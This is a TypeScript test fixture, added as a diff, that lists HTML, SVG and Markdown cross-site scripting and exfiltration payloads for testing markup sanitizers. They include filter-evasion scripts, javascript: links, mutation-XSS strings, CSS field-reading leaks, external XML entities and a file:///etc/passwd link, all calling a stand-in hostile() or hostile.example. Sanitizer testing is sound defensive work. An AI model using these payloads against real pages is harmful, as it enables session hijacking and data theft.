@@ -1,0 +1,344 @@
+// Texts that try to run a script, to send something away or to leave the page. Whatever shows HTML, SVG or Markdown of
+// others is tested against all of them. A script that runs calls `hostile()`; what is fetched or navigated to lies at
+// hostile.example. The texts are our own; the sources are where the trick behind each is described.
+
+export interface HostileMarkup {
+  readonly name: string;
+  readonly source: string;
+  readonly markup: string;
+}
+
+/** OWASP, XSS Filter Evasion Cheat Sheet. */
+const OWASP = 'OWASP XSS Filter Evasion Cheat Sheet';
+/** Mario Heiderich and others, HTML5 Security Cheatsheet, html5sec.org. */
+const HTML5SEC = 'HTML5 Security Cheatsheet (html5sec.org)';
+/** PortSwigger, Cross-site scripting cheat sheet. */
+const PORTSWIGGER = 'PortSwigger XSS cheat sheet';
+/** Heiderich, Schwenk, Frosch, Magazinius, Yang: mXSS Attacks, CCS 2013; and the mutations that sanitizers were later found to miss. */
+const MUTATION = 'mXSS Attacks (CCS 2013) and its successors';
+const HTML = 'WHATWG HTML Standard';
+const SVG = 'SVG 2';
+const CSS = 'CSS Values and Units, CSS Cascading';
+
+type Row = readonly [name: string, source: string, markup: string];
+
+const rows = (list: readonly Row[]): readonly HostileMarkup[] => list.map(([name, source, markup]) => ({ name, source, markup }));
+
+/** HTML, as a page or a part of one. */
+export const hostileHtml: readonly HostileMarkup[] = rows([
+  // Scripts
+  ['script', OWASP, '<script>hostile()</script>'],
+  ['script in capitals', OWASP, '<SCRIPT>hostile()</SCRIPT>'],
+  ['script from elsewhere', OWASP, '<script src="https://hostile.example/a.js"></script>'],
+  ['script from elsewhere without scheme', OWASP, '<script src=//hostile.example/a.js></script>'],
+  ['script with a slash for a space', OWASP, '<script/x>hostile()</script/x>'],
+  ['script with an attribute that closes', OWASP, '<script a=">">hostile()</script>'],
+  ['script without end', OWASP, '<script>hostile()//'],
+  ['script around a script', OWASP, '<scr<script>ipt>hostile()</scr</script>ipt>'],
+  ['script doubled for filters that remove once', OWASP, '<<script>hostile();//<</script>'],
+  ['script of a module', HTML, '<script type="module">hostile()</script>'],
+  [
+    'script of an import map',
+    HTML,
+    '<script type="importmap">{"imports":{"a":"https://hostile.example/a.js"}}</script><script type="module">import "a"</script>',
+  ],
+  ['script in noscript', HTML, '<noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>'],
+  ['script in a template', HTML, '<template><script>hostile()</script></template>'],
+  ['script in a declared shadow', HTML, '<div><template shadowrootmode="open"><img src="x" onerror="hostile()"></template></div>'],
+
+  // Handlers
+  ['handler of an image', OWASP, '<img src="x" onerror="hostile()">'],
+  ['handler without quotes', OWASP, '<img src=x onerror=hostile()>'],
+  ['handler in mixed case', OWASP, '<IMG SRC=x oNeRrOr=hostile()>'],
+  ['handler after a slash', OWASP, '<img/src="x"/onerror=hostile()>'],
+  ['handler after a line feed', OWASP, '<img\nsrc=x\nonerror\n=\nhostile()>'],
+  ['handler after a form feed', OWASP, '<img\fsrc=x\fonerror=hostile()>'],
+  ['handler in entities', OWASP, '<img src=x onerror="&#104;ostile&lpar;&rpar;">'],
+  ['handler in entities without semicolons', OWASP, '<img src=x onerror=&#0000104ostile&#40&#41>'],
+  ['handler in grave accents', OWASP, '<img src=`x` onerror=hostile()>'],
+  ['handler with quotes that do not match', OWASP, '<img """><img src=x onerror=hostile()>">'],
+  ['handler of the body', OWASP, '<body onload=hostile()>'],
+  ['handler of the page shown', PORTSWIGGER, '<body onpageshow=hostile()>'],
+  ['handler of a focus that comes by itself', PORTSWIGGER, '<input autofocus onfocus=hostile()>'],
+  ['handler of a focus on anything', PORTSWIGGER, '<x id=x tabindex=1 onfocus=hostile() autofocus></x>'],
+  ['handler of a detail that opens', HTML5SEC, '<details open ontoggle=hostile()><summary>x</summary></details>'],
+  ['handler of a popover', PORTSWIGGER, '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hostile()>x</div>'],
+  ['handler of a video source', HTML5SEC, '<video><source onerror="hostile()"></video>'],
+  ['handler of an audio', HTML5SEC, '<audio src=x onerror=hostile()>'],
+  ['handler of a marquee', HTML5SEC, '<marquee onstart=hostile()>x</marquee>'],
+  ['handler of an animation', PORTSWIGGER, '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=hostile()>x</p>'],
+  ['handler of a transition', PORTSWIGGER, '<p style="transition:color 1s" ontransitionend=hostile()>x</p>'],
+  ['handler of a style that loads', PORTSWIGGER, '<style onload=hostile()></style>'],
+  ['handler of a pointer', OWASP, '<p onpointerenter=hostile() style="position:fixed;inset:0">x</p>'],
+  ['handler of a click', OWASP, '<a href="#" onclick="hostile()">x</a>'],
+  ['handler that does not exist yet', HTML, '<p onhostile=hostile()>x</p>'],
+  ['handler on an unknown element', PORTSWIGGER, '<xss onclick="hostile()">x</xss>'],
+
+  // Addresses
+  ['address of a script', OWASP, '<a href="javascript:hostile()">x</a>'],
+  ['address of a script in capitals', OWASP, '<a href="JaVaScRiPt:hostile()">x</a>'],
+  ['address of a script with a tab', OWASP, '<a href="jav\tascript:hostile()">x</a>'],
+  ['address of a script with a tab as entity', OWASP, '<a href="jav&#x09;ascript:hostile()">x</a>'],
+  ['address of a script with named entities', OWASP, '<a href="javascript&colon;hostile&lpar;&rpar;">x</a>'],
+  ['address of a script with new lines', OWASP, '<a href="java\nscr\nipt:hostile()">x</a>'],
+  ['address of a script after controls', OWASP, '<a href="\u0001\u0002 javascript:hostile()">x</a>'],
+  ['address of a script behind a comment', OWASP, '<a href="javascript://%0ahostile()">x</a>'],
+  ['address of a script for VBScript', OWASP, '<a href="vbscript:hostile()">x</a>'],
+  ['address with a page in it', OWASP, '<a href="data:text/html,<script>hostile()</script>">x</a>'],
+  ['address with a page in Base64', OWASP, '<a href="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=">x</a>'],
+  ['address of an image as script', OWASP, '<img src="javascript:hostile()">'],
+  ['address of an area', HTML5SEC, '<map name=m><area href="javascript:hostile()" shape=default></map><img usemap=#m src=x>'],
+  ['address sent when a link is followed', HTML, '<a href="#" ping="https://hostile.example/ping">x</a>'],
+  ['address without scheme', OWASP, '<a href="//hostile.example/">x</a>'],
+
+  // Frames and plug-ins
+  ['frame of a script', OWASP, '<iframe src="javascript:parent.hostile()"></iframe>'],
+  ['frame with a page in it', HTML5SEC, '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>'],
+  ['frame with entities in it', HTML5SEC, '<iframe srcdoc="&lt;img src=x onerror=parent.hostile()&gt;"></iframe>'],
+  ['frame from elsewhere', OWASP, '<iframe src="https://hostile.example/"></iframe>'],
+  ['frame that hides a handler', HTML5SEC, '<iframe onload=hostile()></iframe>'],
+  ['frameset', OWASP, '<frameset><frame src="javascript:parent.hostile()"></frameset>'],
+  ['object', OWASP, '<object data="javascript:hostile()"></object>'],
+  ['object from elsewhere', OWASP, '<object data="https://hostile.example/a.html"></object>'],
+  ['embed', OWASP, '<embed src="javascript:hostile()">'],
+  ['embed from elsewhere', OWASP, '<embed src="https://hostile.example/a.swf">'],
+  ['applet', OWASP, '<applet code="https://hostile.example/a.class"></applet>'],
+  ['portal', PORTSWIGGER, '<portal src="https://hostile.example/"></portal>'],
+
+  // Forms
+  ['form', HTML5SEC, '<form action="https://hostile.example/"><input name=a value=b><button>x</button></form>'],
+  ['form of a script', HTML5SEC, '<form action="javascript:hostile()"><button>x</button></form>'],
+  ['form that a button redirects', HTML5SEC, '<form id=f></form><button form=f formaction="javascript:hostile()">x</button>'],
+  ['form by an image', HTML5SEC, '<form><input type=image src=x formaction="javascript:hostile()"></form>'],
+  ['form names that hide properties', PORTSWIGGER, '<form><input name=attributes><input name=parentNode><img src=x onerror=hostile()></form>'],
+
+  // What the head may say
+  ['refresh', OWASP, '<meta http-equiv="refresh" content="0;url=https://hostile.example/">'],
+  ['refresh to a script', OWASP, '<meta http-equiv="refresh" content="0;url=javascript:hostile()">'],
+  ['refresh to a page in itself', OWASP, '<meta http-equiv="refresh" content="0;url=data:text/html,<script>hostile()</script>">'],
+  ['base', OWASP, '<base href="https://hostile.example/"><img src="a.png">'],
+  ['base of a script', OWASP, '<base href="javascript:hostile();//"><a href="#">x</a>'],
+  [
+    'policy of its own',
+    HTML,
+    '<meta http-equiv="Content-Security-Policy" content="img-src https://hostile.example/"><img src="https://hostile.example/a.png">',
+  ],
+  ['style sheet', OWASP, '<link rel="stylesheet" href="https://hostile.example/a.css">'],
+  ['style sheet of a script', OWASP, '<link rel="stylesheet" href="javascript:hostile()">'],
+  ['preload', HTML, '<link rel="preload" as="image" href="https://hostile.example/a.png">'],
+  ['preload of a module', HTML, '<link rel="modulepreload" href="https://hostile.example/a.js">'],
+  ['prefetch of a name', HTML, '<link rel="dns-prefetch" href="//hostile.example">'],
+  ['manifest', HTML, '<link rel="manifest" href="https://hostile.example/a.json">'],
+
+  // What is fetched without a script
+  ['image', HTML, '<img src="https://hostile.example/a.png">'],
+  ['image in sizes', HTML, '<img srcset="https://hostile.example/a.png 1x" src="">'],
+  ['image of a picture', HTML, '<picture><source srcset="https://hostile.example/a.png"><img src=""></picture>'],
+  ['image of a low source', HTML5SEC, '<img lowsrc="https://hostile.example/a.png" dynsrc="https://hostile.example/b.png">'],
+  ['image behind a table', OWASP, '<table background="https://hostile.example/a.png"><td background="https://hostile.example/b.png">x</table>'],
+  ['image behind the body', OWASP, '<body background="https://hostile.example/a.png">'],
+  ['image of an input', OWASP, '<input type="image" src="https://hostile.example/a.png">'],
+  ['video', HTML, '<video src="https://hostile.example/a.mp4" poster="https://hostile.example/a.png" autoplay></video>'],
+  ['audio', HTML, '<audio src="https://hostile.example/a.mp3" autoplay></audio>'],
+  ['track', HTML, '<video><track default src="https://hostile.example/a.vtt"></video>'],
+
+  // Styles
+  ['style with an address', CSS, '<p style="background:url(https://hostile.example/a.png)">x</p>'],
+  ['style with an address in escapes', CSS, '<p style="background:\\75\\72\\6c(https://hostile.example/a.png)">x</p>'],
+  ['style with an image set', CSS, '<p style="background:image-set(\'https://hostile.example/a.png\' 1x)">x</p>'],
+  ['style with a cursor', CSS, '<p style="cursor:url(https://hostile.example/a.cur),auto">x</p>'],
+  ['style with a list mark', CSS, '<ul style="list-style:url(https://hostile.example/a.png)"><li>x</ul>'],
+  ['style with content', CSS, '<style>p::after{content:url(https://hostile.example/a.png)}</style><p>x</p>'],
+  ['style that imports', CSS, '<style>@import "https://hostile.example/a.css";</style>'],
+  ['style with a font', CSS, '<style>@font-face{font-family:f;src:url(https://hostile.example/a.woff2)}p{font-family:f}</style><p>x</p>'],
+  ['style that reads a field', HTML5SEC, '<style>input[value^="s"]{background:url(https://hostile.example/s)}</style><input value="secret">'],
+  ['style with an expression', OWASP, '<p style="width:expression(hostile())">x</p>'],
+  ['style with a binding', OWASP, '<p style="-moz-binding:url(https://hostile.example/a.xml#a)">x</p>'],
+  ['style that covers the page', OWASP, '<a href="https://hostile.example/" style="position:fixed;inset:0;z-index:9999">x</a>'],
+
+  // What changes when it is read twice
+  ['mutation by MathML and a table', MUTATION, '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hostile()&gt;">'],
+  ['mutation by a form', MUTATION, '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hostile()>'],
+  ['mutation by SVG and a style', MUTATION, '<svg></p><style><a id="</style><img src=x onerror=hostile()>">'],
+  ['mutation by a title', MUTATION, '<svg><title><style><img title="</style><img src=x onerror=hostile()>"></title></svg>'],
+  ['mutation by noembed', MUTATION, '<noembed><img title="</noembed><img src=x onerror=hostile()>"></noembed>'],
+  ['mutation by xmp', MUTATION, '<xmp><p title="</xmp><img src=x onerror=hostile()>"></xmp>'],
+  ['mutation by plain text', MUTATION, '<plaintext><p title="</plaintext><img src=x onerror=hostile()>">'],
+  ['mutation by a text area', MUTATION, '<textarea><p title="</textarea><img src=x onerror=hostile()>"></textarea>'],
+  ['mutation by a select', MUTATION, '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=hostile()>">'],
+  [
+    'mutation by an annotation',
+    MUTATION,
+    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=hostile()>"></annotation-xml></math>',
+  ],
+  ['mutation by foreign content', MUTATION, '<svg><foreignObject><p><style><!--</style><p title="--><img src=x onerror=hostile()>"></foreignObject></svg>'],
+  ['mutation by grave accents', MUTATION, '<img alt="``onerror=hostile()" src=x>'],
+  ['mutation by a character reference without end', MUTATION, '<p title="&lt;img src=x onerror=hostile()&gt">x</p>'],
+  ['mutation by depth', MUTATION, `${'<div>'.repeat(520)}<style><p title="</style><img src=x onerror=hostile()>">`],
+
+  // Nesting that is no nesting
+  ['comment that ends early', OWASP, '<!--><img src=x onerror=hostile()>-->'],
+  ['comment that ends with an exclamation mark', HTML, '<!-- --!><img src=x onerror=hostile()>-->'],
+  ['comment for old browsers', OWASP, '<!--[if gte IE 4]><script>hostile()</script><![endif]-->'],
+  ['section of characters', OWASP, '<![CDATA[<img src=x onerror=hostile()>]]>'],
+  ['instruction', OWASP, '<?xml-stylesheet href="javascript:hostile()"?><img src=x onerror=hostile()>'],
+  ['title that ends', OWASP, '</title><script>hostile()</script>'],
+  ['attribute that ends', OWASP, '"><script>hostile()</script>'],
+  ['attribute that ends in single quotes', OWASP, "'><img src=x onerror=hostile()>"],
+  ['element without end', OWASP, '<img src=x onerror=hostile() '],
+  ['end tag with attributes', HTML, '</p onclick=hostile()><img src=x onerror=hostile()>'],
+  ['link in a link', HTML, '<a href="https://hostile.example/"><a href="javascript:hostile()">x</a></a>'],
+  ['table that lets out', HTML, '<table><img src=x onerror=hostile()><tr><td></table>'],
+  ['null characters', OWASP, '<scr\u0000ipt>hostile()</scr\u0000ipt><img \u0000src=x \u0000onerror=hostile()>'],
+  ['ids that hide properties', PORTSWIGGER, '<a id=hostileConfig><a id=hostileConfig name=url href="https://hostile.example/">x</a>'],
+  [
+    'all in one',
+    OWASP,
+    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=hostile() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hostile()//>\\x3e',
+  ],
+]);
+
+const svg = (inside: string, attributes = ''): string =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"${attributes}>${inside}</svg>`;
+
+/** SVG documents. All but those named so are well-formed XML. */
+export const hostileSvg: readonly HostileMarkup[] = rows([
+  ['svg script', SVG, svg('<script>hostile()</script>')],
+  ['svg script with its language', SVG, svg('<script type="text/ecmascript"><![CDATA[hostile()]]></script>')],
+  ['svg script from elsewhere', SVG, svg('<script href="https://hostile.example/a.js"/>')],
+  ['svg script from elsewhere, the old way', SVG, svg('<script xlink:href="https://hostile.example/a.js"/>')],
+  ['svg script in an address', HTML5SEC, svg('<script href="data:text/javascript,hostile()"/>')],
+  ['svg handler', HTML5SEC, svg('<rect width="10" height="10"/>', ' onload="hostile()"')],
+  ['svg handler of a part', SVG, svg('<rect width="10" height="10" onclick="hostile()" onfocusin="hostile()" tabindex="0"/>')],
+  ['svg handler of an image', SVG, svg('<image href="https://hostile.example/x" onerror="hostile()"/>')],
+  ['svg handler of an animation', HTML5SEC, svg('<animate attributeName="x" dur="1s" onbegin="hostile()"/>')],
+  ['svg link of a script', SVG, svg('<a href="javascript:hostile()"><text y="9">x</text></a>')],
+  ['svg link of a script, the old way', SVG, svg('<a xlink:href="javascript:hostile()"><text y="9">x</text></a>')],
+  ['svg link that an animation makes', HTML5SEC, svg('<a><animate attributeName="href" values="javascript:hostile()"/><text y="9">x</text></a>')],
+  ['svg link that is set', HTML5SEC, svg('<a><set attributeName="href" to="javascript:hostile()"/><text y="9">x</text></a>')],
+  ['svg link that is set, the old way', HTML5SEC, svg('<a><set attributeName="xlink:href" to="javascript:hostile()"/><text y="9">x</text></a>')],
+  ['svg handler that is set', HTML5SEC, svg('<set attributeName="onmouseover" to="hostile()"/>')],
+  [
+    'svg foreign object',
+    HTML5SEC,
+    svg('<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="hostile()"/></body></foreignObject>'),
+  ],
+  [
+    'svg foreign frame',
+    HTML5SEC,
+    svg('<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.hostile()"/></foreignObject>'),
+  ],
+  ['svg foreign script', HTML5SEC, svg('<foreignObject><script xmlns="http://www.w3.org/1999/xhtml">hostile()</script></foreignObject>')],
+  [
+    'svg foreign refresh',
+    HTML5SEC,
+    svg('<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://hostile.example/"/></foreignObject>'),
+  ],
+  [
+    'svg use of a page in an address',
+    HTML5SEC,
+    svg("<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='x' onerror='hostile()'/&gt;&lt;/svg&gt;#x\"/>"),
+  ],
+  ['svg use from elsewhere', SVG, svg('<use href="https://hostile.example/a.svg#x"/>')],
+  ['svg image from elsewhere', SVG, svg('<image href="https://hostile.example/a.png" width="10" height="10"/>')],
+  ['svg image from elsewhere, the old way', SVG, svg('<image xlink:href="https://hostile.example/a.png" width="10" height="10"/>')],
+  [
+    'svg filter from elsewhere',
+    SVG,
+    svg('<filter id="f"><feImage href="https://hostile.example/a.png"/></filter><rect width="10" height="10" filter="url(#f)"/>'),
+  ],
+  [
+    'svg paint from elsewhere',
+    SVG,
+    svg('<rect width="10" height="10" fill="url(https://hostile.example/a.svg#p)" mask="url(https://hostile.example/b.svg#m)"/>'),
+  ],
+  ['svg style that imports', CSS, svg('<style>@import url(https://hostile.example/a.css);</style>')],
+  ['svg style with an address', CSS, svg('<rect width="10" height="10" style="filter:url(https://hostile.example/a.svg#f)"/>')],
+  [
+    'svg style with a font',
+    CSS,
+    svg('<style>@font-face{font-family:f;src:url(https://hostile.example/a.woff2)}text{font-family:f}</style><text y="9">x</text>'),
+  ],
+  ['svg style sheet before the root', SVG, `<?xml-stylesheet href="https://hostile.example/a.css" type="text/css"?>${svg('')}`],
+  ['svg handler by an entity', HTML5SEC, `<!DOCTYPE svg [<!ENTITY h "hostile()">]>${svg('', ' onload="&h;"')}`],
+  ['svg entity from elsewhere', 'XML 1.0, 4.2.2', `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://hostile.example/a">]>${svg('<text y="9">&x;</text>')}`],
+  ['svg type from elsewhere', 'XML 1.0, 4.2.2', `<!DOCTYPE svg SYSTEM "https://hostile.example/a.dtd">${svg('')}`],
+  ['svg handler for DOM events', 'SVG Tiny 1.2', svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hostile()</handler>')],
+  ['svg that is no XML', HTML5SEC, '<svg/onload=hostile()>'],
+  ['svg that leaves itself', MUTATION, '<svg><style></svg><img src=x onerror=hostile()></style></svg>'],
+  ['svg that is a page', HTML5SEC, '<html xmlns="http://www.w3.org/1999/xhtml"><script>hostile()</script></html>'],
+]);
+
+/** Markdown, whose own marks make the addresses and the attributes. */
+export const hostileMarkdown: readonly HostileMarkup[] = rows([
+  ['link of a script', OWASP, '[x](javascript:hostile())'],
+  ['link of a script in mixed case', OWASP, '[x](JaVaScRiPt:hostile())'],
+  ['link of a script in angle brackets', 'CommonMark 0.31, 6.3', '[x](<javascript:hostile()>)'],
+  ['link of a script after a control', OWASP, '[x](\u0001javascript:hostile())'],
+  ['link of a script after a space', OWASP, '[x]( javascript:hostile() "title")'],
+  ['link of a script in entities', 'CommonMark 0.31, 2.5', '[x](java&#115;cript:hostile())'],
+  ['link of a script with a named colon', 'CommonMark 0.31, 2.5', '[x](javascript&colon;hostile())'],
+  ['link of a script in hexadecimal', 'CommonMark 0.31, 2.5', '[x](&#x6A;avascript:hostile())'],
+  ['link of a script with a backslash', 'CommonMark 0.31, 2.4', '[x](java\\script:hostile())'],
+  ['link of a script with an escaped colon', 'CommonMark 0.31, 2.4', '[x](javascript\\:hostile())'],
+  ['link of a script with a line feed in percent', OWASP, '[x](java%0ascript:hostile())'],
+  ['link of a script with a tab', OWASP, '[x](java&Tab;script:hostile())'],
+  ['link of a script with a new line', OWASP, '[x](java&NewLine;script:hostile())'],
+  ['link for VBScript', OWASP, '[x](vbscript:hostile())'],
+  ['link with a page in it', OWASP, '[x](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=)'],
+  ['link to a file', HTML, '[x](file:///etc/passwd)'],
+  ['link to a blob', HTML, '[x](blob:https://hostile.example/1)'],
+  ['link by reference', 'CommonMark 0.31, 6.3', '[x][y]\n\n[y]: javascript:hostile()'],
+  ['link by reference that comes first', 'CommonMark 0.31, 4.7', '[x]: javascript:hostile()\n\n[x]'],
+  ['link by itself', 'CommonMark 0.31, 6.5', '<javascript:hostile()>'],
+  ['link by itself in capitals', 'CommonMark 0.31, 6.5', '<JAVASCRIPT:hostile()>'],
+  ['link by itself with a page in it', 'CommonMark 0.31, 6.5', '<data:text/html,hostile>'],
+  ['link with a handler in its title', OWASP, '[x](https://example.com "\\" onmouseover=\\"hostile()")'],
+  ['link with a handler in its address', OWASP, '[x](" onmouseover="hostile())'],
+  ['link found in the text, with a quote', 'GitHub Flavored Markdown, 6.9', 'https://example.com/"onmouseover="hostile()'],
+  ['link found in the text, with an element', 'GitHub Flavored Markdown, 6.9', 'www.example.com/<script>hostile()</script>'],
+  ['image of a script', OWASP, '![x](javascript:hostile())'],
+  ['image with a page in it', OWASP, '![x](data:text/html,<script>hostile()</script>)'],
+  ['image with an SVG in it', OWASP, '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGUoKSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)'],
+  ['image with a handler in its text', OWASP, '![" onerror="hostile()](x)'],
+  ['image with a handler in its title', OWASP, '![x](x "\\" onerror=\\"hostile()")'],
+  ['image with a handler in entities', OWASP, '![x](x&quot;onerror=&quot;hostile())'],
+  ['image in a link', 'CommonMark 0.31, 6.4', '[![x](javascript:hostile())](javascript:hostile())'],
+  ['link in a link', 'CommonMark 0.31, 6.3', '[a [b](javascript:hostile()) c](javascript:hostile())'],
+  ['lists and quotes around a link', 'CommonMark 0.31, 5', '> - 1. [x](javascript:hostile())\n>   <svg/onload=hostile()>'],
+  ['fence with a handler in its language', 'CommonMark 0.31, 4.5', '```"onmouseover="hostile()\nx\n```'],
+  ['fence with an element in its language', 'CommonMark 0.31, 4.5', '```<img/src=x/onerror=hostile()>\nx\n```'],
+  ['fence with an element in entities', 'CommonMark 0.31, 4.5', '```&lt;img/src=x/onerror=hostile()&gt;\nx\n```'],
+  ['code', 'CommonMark 0.31, 6.1', '`<img src=x onerror=hostile()>`'],
+  ['heading', 'CommonMark 0.31, 4.2', '# <script>hostile()</script>'],
+  ['table', 'GitHub Flavored Markdown, 4.10', '| <img src=x onerror=hostile()> |\n| - |\n| [x](javascript:hostile()) |'],
+  ['task', 'GitHub Flavored Markdown, 5.3', '- [ ] <img src=x onerror=hostile()>'],
+  ['footnote with an element for a name', 'GitHub, footnotes', 'x[^<img src=x onerror=hostile()>]\n\n[^<img src=x onerror=hostile()>]: y'],
+  ['footnote with a handler for a name', 'GitHub, footnotes', 'x[^"onmouseover="hostile()]\n\n[^"onmouseover="hostile()]: y'],
+  ['HTML in entities', 'CommonMark 0.31, 2.5', '&lt;script&gt;hostile()&lt;/script&gt; &#60;img src=x onerror=hostile()&#62;'],
+  ['HTML block without end', 'CommonMark 0.31, 4.6', '<script\nhostile()'],
+  ['HTML over paragraphs', 'CommonMark 0.31, 4.6', '<div\n\nonclick="hostile()"\n\n><img src=x onerror=hostile()>'],
+  ['null characters', 'CommonMark 0.31, 2.3', '\u0000<scr\u0000ipt>hostile()</script>'],
+]);
+
+/** Places of a Markdown text in which HTML may stand, or seem to. */
+const PLACES: readonly ((html: string) => string)[] = [
+  (html) => html,
+  (html) => `a ${html} b`,
+  (html) => `- ${html}`,
+  (html) => `> ${html}`,
+  (html) => `| a |\n| - |\n| ${html} |`,
+  (html) => `[${html}](https://example.com)`,
+  (html) => `[a](https://example.com "${html}")`,
+  (html) => `![${html}](a.png)`,
+  (html) => `a[^1]\n\n[^1]: ${html}`,
+  (html) => `\`\`\`${html}\n${html}\n\`\`\``,
+];
+
+/** Everything that is hostile in Markdown: its own tricks, and HTML and SVG in every place. */
+export const allHostileMarkdown: readonly HostileMarkup[] = [
+  ...hostileMarkdown,
+  ...[...hostileHtml, ...hostileSvg].flatMap(({ name, source, markup }) =>
+    PLACES.map((place, index) => ({ name: `${name}, place ${index + 1}`, source, markup: place(markup) })),
+  ),
+];
